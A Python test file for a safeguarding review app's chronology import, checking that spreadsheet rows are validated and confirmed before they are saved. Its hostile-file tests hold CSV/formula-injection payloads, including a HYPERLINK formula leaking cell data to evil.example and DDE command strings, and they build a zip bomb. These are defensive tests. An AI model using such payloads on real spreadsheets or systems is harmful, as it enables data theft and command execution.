"""Issue 16 point 3: a chronology imported from a spreadsheet with the columns of Darlington's
chronology template (seed 004 appendix 2): read, shown with the rows that could not be read
and why, and added only once the agency confirms; hostile files refused."""

import csv
import datetime
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook

from reviews.models import ChronologyEntry, InformationReturn
from safeguarding.models import Role
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
D = datetime.date
HEADINGS = ["Date dd/mm/yy", "Time 00:00 (24hr)", "Significant Event", "Agency",
            "Whose Professional/ Agency Records (Source)?", "Who was involved?",
            "Decisions/Outcome including any actions taken",
            "Child seen/views sought: Yes/No (record the child's views)", "Author Comments"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def client(school):
    client = Client()
    client.force_login(UserFactory(role=Role.AGENCY_CONTRIBUTOR, agency=school))
    return client


def events(count: int) -> list[list]:
    """Thirty days of school records from 1 September 2025, one a day."""
    return [[D(2025, 9, 1) + datetime.timedelta(days=day), datetime.time(8, 45),
             f"Day {day + 1}: arrived at school hungry and unkempt", "School record",
             "Northmoor Academy", "Class teacher; Designated Safeguarding Lead",
             "Breakfast given; logged on the school's safeguarding system",
             "Yes - said there was no food at home" if day % 2 == 0 else "No", ""]
            for day in range(count)]


def workbook(rows: list[list], title_rows: int = 1) -> bytes:
    book = Workbook()
    sheet = book.active
    for _ in range(title_rows):  # the template's "Chronology: Name ... Author" line
        sheet.append(["Chronology: Name: (see the return)  Agency: Northmoor Academy"])
    sheet.append(HEADINGS)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_file(rows: list[list]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(HEADINGS)
    for row in rows:
        writer.writerow(row)
    return out.getvalue().encode()


def upload(client, information_return, name: str, content: bytes, content_type=XLSX):
    return client.post(reverse("reviews:chronology-import", args=[information_return.pk]),
                       {"file": SimpleUploadedFile(name, content, content_type=content_type)})


def check_page(information_return) -> str:
    return reverse("reviews:chronology-import-check", args=[information_return.pk])


def test_thirty_events_from_a_workbook_are_shown_then_added_once_confirmed(client,
                                                                            school_return):
    # The chronology page first: its rows' formset must not change what an import reads.
    client.get(reverse("reviews:section", args=[school_return.pk, "chronology"]))
    response = upload(client, school_return, "chronology.xlsx", workbook(events(30)))
    assert response.status_code == 302 and response["Location"] == check_page(school_return)
    page = client.get(check_page(school_return)).content.decode()
    assert "30 events read" in page and "Day 30: arrived at school hungry" in page
    assert "Nothing has been added to your chronology yet." in page
    assert not ChronologyEntry.objects.exists()
    response = client.post(check_page(school_return))
    assert response.status_code == 302
    added = list(ChronologyEntry.objects.order_by("happened_on"))
    assert len(added) == 30
    first = added[0]
    assert (first.happened_on, first.happened_at) == (D(2025, 9, 1), datetime.time(8, 45))
    assert first.record_type == "School record" and first.source == "Northmoor Academy"
    assert (first.child_seen, first.child_views) == ("yes", "said there was no food at home")
    assert added[1].child_seen == "no" and added[1].child_views == ""
    school_return.refresh_from_db()
    assert school_return.status == InformationReturn.Status.DRAFT
    assert school_return.section_progress == {"chronology": "in_progress"}
    # Confirming again adds nothing more: what was read is gone from the session.
    assert client.post(check_page(school_return)).status_code == 302
    assert ChronologyEntry.objects.count() == 30


def test_thirty_events_from_a_csv_file(client, school_return):
    rows = [[f"{on:%d/%m/%Y}", "08:45", *rest] for on, _at, *rest in events(30)]
    rows[3][0] = f"{D(2025, 9, 4):%Y-%m-%d}"  # the other date format accepted
    rows[4][0] = "05/09/25"  # the template's own dd/mm/yy
    response = upload(client, school_return, "chronology.csv", csv_file(rows), "text/csv")
    assert response.status_code == 302
    client.post(check_page(school_return))
    assert ChronologyEntry.objects.count() == 30
    assert ChronologyEntry.objects.filter(happened_on=D(2025, 9, 5)).count() == 1


def test_rows_with_bad_dates_are_refused_with_the_reason(client, school_return):
    rows = events(8)
    rows[5][0] = "31/02/2023"  # row 8 of the sheet: a title line, the headings, then rows
    rows[6][0] = None
    rows[7][2] = ""
    upload(client, school_return, "chronology.xlsx", workbook(rows))
    page = client.get(check_page(school_return)).content.decode()
    assert "Row 8: the date &#x27;31/02/2023&#x27; is not a real date" in page
    assert "Row 9: Date: Enter the date of the event" in page
    assert "Row 10: Significant event: Enter the significant event" in page
    assert "5 events read" in page
    assert not ChronologyEntry.objects.exists()  # nothing until the agency confirms
    client.post(check_page(school_return))
    assert ChronologyEntry.objects.count() == 5


def test_what_was_read_waits_in_its_readers_session_only(client, school_return, school):
    upload(client, school_return, "chronology.xlsx", workbook(events(2)))
    assert client.session["chronology_import"]["return"] == school_return.pk
    nothing = Client()
    nothing.force_login(UserFactory(role=Role.AGENCY_CONTRIBUTOR, agency=school))
    response = nothing.post(check_page(school_return))  # another session: nothing pending
    assert response.status_code == 302
    assert response["Location"] == reverse("reviews:chronology-import",
                                           args=[school_return.pk])
    assert not ChronologyEntry.objects.exists()


# Hostile files.

def test_formulas_are_never_evaluated_nor_kept_as_formulas(client, school_return):
    rows = events(3)
    rows[0][2] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'  # a formula, no value
    rows[1][4] = "=cmd|' /C calc'!A0"
    rows[2][8] = "@SUM(1+1)*cmd|' /C calc'!A0"
    upload(client, school_return, "chronology.xlsx", workbook(rows))
    page = client.get(check_page(school_return)).content.decode()
    assert "Row 3: Significant event: Enter the significant event" in page
    client.post(check_page(school_return))
    saved = list(ChronologyEntry.objects.order_by("happened_on"))
    assert len(saved) == 2
    for entry in saved:
        for field in ("event", "source", "author_comments", "decisions"):
            assert not getattr(entry, field).startswith(("=", "+", "-", "@"))
    csv_rows = [["01/09/2025", "", "+cmd|' /C calc'!A0", "=1+1", "", "", "", "", "-2+3"]]
    upload(client, school_return, "chronology.csv", csv_file(csv_rows), "text/csv")
    client.post(check_page(school_return))
    entry = ChronologyEntry.objects.get(event__contains="calc")
    assert (entry.event, entry.record_type, entry.author_comments) == (
        "cmd|' /C calc'!A0", "1+1", "2+3")


def test_a_huge_sheet_is_refused(client, school_return):
    response = upload(client, school_return, "chronology.xlsx", workbook(events(501)))
    assert response.status_code == 200
    assert "The selected file has more than 500 events" in response.content.decode()
    assert "chronology_import" not in client.session


def test_a_file_over_2_mb_is_refused(client, school_return):
    response = upload(client, school_return, "chronology.csv",
                      csv_file([["01/09/2025", "", "x" * 9_000]] * 250), "text/csv")
    assert "The selected file must be smaller than 2 MB" in response.content.decode()


@pytest.mark.parametrize("name,content", [
    ("chronology.xlsx", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"),  # a PDF
    ("chronology.pdf", csv_file(events(1))),  # good content, the wrong kind of file
    ("chronology.csv", b"Date,Significant Event\n\x00\x01\x02\xff\xfe binary"),
    ("chronology.csv", "Date,Significant Event\n01/09/2025,caf\xe9".encode("latin-1")),
    ("chronology.xlsx", b"PK\x03\x04 not really a zip"),
])
def test_a_file_of_the_wrong_type_is_refused(client, school_return, name, content):
    response = upload(client, school_return, name, content)
    page = response.content.decode()
    assert response.status_code == 200 and "There is a problem" in page
    assert ("must be an Excel spreadsheet (.xlsx) or a CSV file" in page
            or "cannot be read" in page or "is not an Excel spreadsheet" in page
            or "must be saved as UTF-8" in page)
    assert "chronology_import" not in client.session


def test_a_zip_bomb_is_refused(client, school_return):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\x00" * (60 * 1024 * 1024))
    assert len(out.getvalue()) < 2 * 1024 * 1024
    response = upload(client, school_return, "chronology.xlsx", out.getvalue())
    assert "too large once unpacked" in response.content.decode()


def test_a_file_without_the_templates_headings_is_refused(client, school_return):
    response = upload(client, school_return, "chronology.csv",
                      b"When,What\n01/09/2025,Hungry\n", "text/csv")
    assert "the chronology template&#x27;s column headings" in response.content.decode()
